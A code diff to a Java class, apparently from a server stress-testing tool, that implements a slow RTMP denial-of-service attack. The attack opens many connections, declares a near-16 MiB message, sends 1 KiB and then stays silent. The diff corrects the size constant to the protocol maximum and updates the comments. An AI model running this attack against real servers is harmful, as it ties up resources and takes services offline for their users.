@@ -22,7 +22,7 @@ final class SlowRtmpAttack implements Attack {
 
     @Override
     public String description(AttackScale scale) {
-        return scale.rtmpConnections() + " RTMP connections: handshake, chunk size 16 MiB, a 16 MiB message "
+        return scale.rtmpConnections() + " RTMP connections: handshake, chunk size and a message of 16 MiB "
                 + "declared, 1 KiB sent, then silence";
     }
 
@@ -87,12 +87,15 @@ final class SlowRtmpAttack implements Attack {
         }
     }
 
-    /** Set Chunk Size 16 MiB, then a type-0 chunk declaring a 16 MiB AMF0 command with {@link #SENT} bytes of it. */
+    /**
+     * Set Chunk Size 16 MiB - 1 (the largest RTMP allows), then a type-0 chunk declaring a 16 MiB - 1 AMF0 command
+     * of which {@link #SENT} bytes follow.
+     */
     static byte[] partialMessage() {
         ByteBuffer b = ByteBuffer.allocate(12 + 4 + 12 + SENT);
         // Set Chunk Size (type 1) on chunk stream 2, message stream 0.
         b.put((byte) 0x02).put(new byte[] {0, 0, 0}).put(new byte[] {0, 0, 4}).put((byte) 1).putInt(0);
-        b.putInt(0x0100_0000);
+        b.putInt(0xFF_FFFF);
         // AMF0 command (type 20) on chunk stream 3, 16 MiB - 1 declared.
         b.put((byte) 0x03).put(new byte[] {0, 0, 0})
                 .put((byte) (DECLARED >> 16)).put((byte) (DECLARED >> 8)).put((byte) DECLARED)
